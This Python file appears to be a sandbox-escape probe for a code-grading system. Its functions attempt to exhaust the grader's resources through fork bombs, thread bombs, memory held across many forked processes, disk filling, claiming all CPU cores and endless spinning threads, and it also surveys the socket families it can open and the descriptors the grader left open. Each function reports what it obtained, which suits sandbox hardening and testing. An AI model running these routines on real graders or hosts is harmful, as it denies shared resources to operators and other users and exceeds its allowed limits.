# Attack: take more of the grading machine than one submission's share: memory held by many processes at once,
# fork and thread bombs, a scratch folder filled past its cap, other cores, sockets of every family, descriptors
# left open by the grader, and CPU time bought by spinning threads. Each function reports what it got.
import ctypes
import errno
import hashlib
import json
import os
import select
import socket
import threading
import time

PLACES = json.loads(r'''@PLACES@''')


def _name_myself():
    ctypes.CDLL(None).prctl(15, ("rt" + PLACES["token"]).encode(), 0, 0, 0)  # PR_SET_NAME


def _touch(mib):
    block = bytearray(mib << 20)
    block[::4096] = b"\x01" * len(range(0, len(block), 4096))
    return block


def hold_memory(processes, mib):
    """MiB held at once by ``processes`` processes (this one included), each touching ``mib`` MiB."""
    readers, kept = [], []
    for _ in range(processes - 1):
        reader, writer = os.pipe()
        try:
            pid = os.fork()
        except OSError:
            os.close(reader)
            os.close(writer)
            break
        if pid == 0:
            _name_myself()
            try:
                block = _touch(mib)  # noqa: F841 - held until this process ends
                os.write(writer, b"1")
                time.sleep(60)
            finally:
                os._exit(0)
        os.close(writer)
        readers.append(reader)
    for _ in range(processes - len(readers)):
        try:
            kept.append(_touch(mib))
        except MemoryError:
            break
    confirmed = 0
    for reader in readers:
        if select.select([reader], [], [], 20)[0] and os.read(reader, 1) == b"1":
            confirmed += 1
    return (confirmed + len(kept)) * mib


def fork_bomb(most):
    started = 0
    for _ in range(most):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            _name_myself()
            time.sleep(60)
            os._exit(0)
        started += 1
    return started


def thread_bomb(most):
    threading.stack_size(1 << 16)  # small stacks: memory is not what stops them
    started = []
    for _ in range(most):
        try:
            thread = threading.Thread(target=time.sleep, args=(5,), daemon=True)
            thread.start()
        except RuntimeError:
            break
        started.append(thread)
    return len(started)


def fill_scratch(mib_each, most):
    written = 0
    try:
        for number in range(most):
            with open(f"fill-{number}", "wb") as handle:
                handle.write(b"x" * (mib_each << 20))
            written += mib_each
    except OSError as error:
        return [written, errno.errorcode.get(error.errno, str(error.errno)), os.getcwd()]
    return [written, "", os.getcwd()]


def other_cores():
    mine = sorted(os.sched_getaffinity(0))
    try:
        os.sched_setaffinity(0, range(os.cpu_count() or 1))
        moved = "moved"
    except OSError as error:
        moved = type(error).__name__
    return [mine, moved]


def sockets():
    found = {}
    for family in ("AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK", "AF_VSOCK", "AF_PACKET"):
        try:
            socket.socket(getattr(socket, family), socket.SOCK_RAW if family == "AF_PACKET" else socket.SOCK_STREAM
                          if family == "AF_VSOCK" else socket.SOCK_DGRAM).close()
            found[family] = "open"
        except OSError as error:
            found[family] = type(error).__name__
    try:
        socket.socketpair()
        found["socketpair"] = "open"
    except OSError as error:
        found["socketpair"] = type(error).__name__
    return found


def descriptors():
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[name] = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            pass  # the listing's own descriptor, closed already
    return found


def spin_threads(threads):
    """Spin ``threads`` threads on work that releases the GIL, for ever."""
    data = b"x" * (1 << 20)

    def spin():
        while True:
            hashlib.sha256(data).digest()

    for _ in range(threads):
        threading.Thread(target=spin, daemon=True).start()
    spin()
